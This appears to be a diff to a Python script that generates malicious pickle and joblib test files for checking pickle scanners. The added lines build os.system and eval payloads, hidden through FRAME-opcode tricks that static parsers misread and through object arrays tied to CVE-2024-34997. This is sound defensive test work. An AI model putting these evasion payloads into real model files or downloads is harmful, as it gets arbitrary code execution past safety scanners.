@@ -115,6 +115,23 @@ put("memo_indirect.pkl", P4 + u("os") + b"\x94" + u("system") + b"\x94" + b"h\x0
 put("two_pickles.pkl", pickle.dumps({"w": [1, 2]}) + P4 + sg("os", "system") + u("id") + CALL1 + b".")
 put("after_junk.pkl", b"\x00" * 0 + pickle.dumps([1]) + b"junk" + P4 + sg("os", "system") + u("id") + CALL1 + b".")
 
+# 3b. framing that CPython's C unpickler reads differently from parsers
+# (cpython#154848, the cases of fickling's test_bypasses.py): an opcode that
+# starts inside a FRAME and ends past it, or a FRAME inside a FRAME
+def framed(body, declared):
+    return b"\x80\x05\x95" + struct.pack("<Q", declared) + body + b"."
+
+
+hidden = b"cos\nsystem\nVecho pwned\n\x85R"
+put("frame_divergence.pkl", b"\x80\x05NV" + b"a" * (8192 * 16 - 17) + b"\n0(\x95" + struct.pack("<Q", 2)
+    + b"B\x07\x01\x00\x00\x00\x00" + (hidden + b"(").ljust(256 + 5, b"N") + b"1.")
+put("frame_straddle_binbytes.pkl", framed(b"B" + struct.pack("<I", 20) + b"A" * 20, 5))
+put("frame_straddle_short_binunicode.pkl", framed(b"\x8c\x14" + b"A" * 20, 3))
+put("frame_straddle_global_module.pkl", framed(b"cmacos\nsystem\n", 4))
+put("frame_straddle_unicode.pkl", framed(b"Vhello world\n", 5))
+put("frame_straddle_binint.pkl", framed(b"J" + struct.pack("<i", 7), 2))
+put("frame_in_frame.pkl", b"\x80\x05\x95" + struct.pack("<Q", 30) + b"N\x95" + struct.pack("<Q", 2) + b"N.")
+
 # 4. containers and wrappers
 evil = P4 + sg("os", "system") + u("id") + CALL1 + b"."
 zf = io.BytesIO()
@@ -176,6 +193,12 @@ try:
         def __reduce__(self):
             return eval, ("__import__('os').system('id')",)
 
+    objarr = np.empty(3, dtype=object)
+    objarr[1] = R2()
+    for comp in [0, 3]:  # CVE-2024-34997: NumpyArrayWrapper pickles object arrays
+        p = os.path.join(OUT, "joblib_object_array_c%d.joblib" % comp)
+        joblib.dump({"arr": objarr, "w": np.zeros(100)}, p, compress=comp)
+        written.append(os.path.basename(p))
     for comp in [None, "zlib", "gzip", "bz2", "xz", "lzma"]:
         p = os.path.join(OUT, "joblib_%s.joblib" % (comp or "raw"))
         joblib.dump({"model": R2()}, p, compress=(comp, 3) if comp else 0)
